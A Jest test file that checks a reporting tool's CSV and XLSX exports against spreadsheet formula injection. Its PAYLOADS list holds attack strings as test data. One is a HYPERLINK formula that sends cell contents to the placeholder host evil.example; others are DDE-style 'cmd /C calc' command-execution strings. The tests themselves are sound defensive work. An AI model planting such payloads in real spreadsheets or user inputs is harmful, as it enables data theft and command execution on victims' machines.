import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import type { Briefing } from '../../domain/src/reporting/briefing.js';
import { renderAnnexCsv } from './annex-csv.js';
import { ANNEX_SHEET_NAME, renderAnnexXlsx } from './annex-xlsx.js';
import { BRIEFING_SHEETS, renderBriefingXlsx } from './briefing-xlsx.js';
import { neutraliseCell, neutraliseFormula } from './spreadsheet-text.js';
import { netSword2021Report } from './testing/net-sword-2021-annex.fixture.js';
import { emptyBriefing } from './testing/briefing.fixture.js';

// What an attacker would put in a reason or a remark for a coordinator's spreadsheet to run.
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

async function readBack(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(buffer).buffer);
  return workbook;
}

describe('neutraliseFormula', () => {
  it.each(PAYLOADS)('given text starting like a formula (%j), when neutralised, then it starts with an apostrophe and keeps the text', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it.each(['网店销售假冒运动鞋', 'R-1', '91110000600037341L', '', ' =not at the start', '其中2件 = 同时'])('given ordinary text (%j), when neutralised, then it is unchanged', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('given numbers and nulls, when neutralised as cells, then they stay what they are', () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell('=1')).toBe("'=1");
  });
});

describe('exports neutralise formulas', () => {
  const hostileAnnex = (): ReturnType<typeof netSword2021Report> => {
    const report = netSword2021Report();
    return { ...report, rows: report.rows.map((row, i) => (i === 0 ? { ...row, remark: PAYLOADS[0] ?? '' } : i === 1 ? { ...row, remark: '-1' } : row)) };
  };

  it('given a remark starting with "=", when the annex is rendered as CSV, then the field starts with an apostrophe (quoted as RFC 4180 asks)', () => {
    const lines = renderAnnexCsv(hostileAnnex()).split('\r\n');
    expect(lines[1]?.endsWith(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)).toBe(true);
    expect(lines[2]?.endsWith(",'-1")).toBe(true);
    expect(lines.slice(1).every((line) => !/,[=+\-@]/.test(line))).toBe(true);
  });

  it('given a remark starting with "=", when the annex is rendered as XLSX, then the cell is text with an apostrophe, not a formula', async () => {
    const workbook = await readBack(await renderAnnexXlsx(hostileAnnex(), { title: 'annex', unitLabel: 'u', reportDate: '2021-12-05', note: 'n' }));
    const cell = workbook.getWorksheet(ANNEX_SHEET_NAME)?.getCell('D5');
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(`'${PAYLOADS[0]}`);
  });

  it('given an overdue referral whose reason is a formula, when the briefing is rendered as XLSX, then no cell of any sheet is a formula or starts like one', async () => {
    const briefing: Briefing = {
      ...emptyBriefing(),
      overdue: {
        total: 1,
        byDepartment: [
          {
            department: 'police',
            count: 1,
            items: [
              {
                referralId: '@R-1',
                leadId: 'L-1',
                fromUnit: 'samr/653100',
                toUnit: 'police/650100',
                toDepartment: 'police',
                toRegion: '650100',
                reason: PAYLOADS[1] ?? '',
                status: 'sent',
                sentAt: '2021-11-01T00:00:00.000Z',
                clock: 'answer',
                deadline: '2021-11-10T16:00:00.000Z',
                overdueWorkingDays: 3,
              },
            ],
          },
        ],
      },
      newClusters: [{ clusterId: 'C-1', formedAt: '2021-11-02T00:00:00.000Z', members: ['lead/x'], keys: ['+86 138'], crossRegion: true, crossDepartment: false }],
      annex: hostileAnnex(),
      byProduct: [{ productCategory: 'cosmetics', leads: 3 }, { productCategory: null, leads: 1 }],
      actions: [{ department: 'samr', guidance: 1, interviews: 2, samplings: 1, batches: 40, failed: 3, closureRequests: 0 }],
      keyPeriodLeads: [{ keyPeriod: 'double_11', label: '=双11集中促销期', leads: 2 }],
    };
    const workbook = await readBack(await renderBriefingXlsx(briefing));
    const texts: string[] = [];
    for (const name of BRIEFING_SHEETS) {
      workbook.getWorksheet(name)?.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(texts).toEqual(expect.arrayContaining([`'${PAYLOADS[1]}`, "'@R-1", "'+86 138", `'${PAYLOADS[0]}`]));
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
  });
});
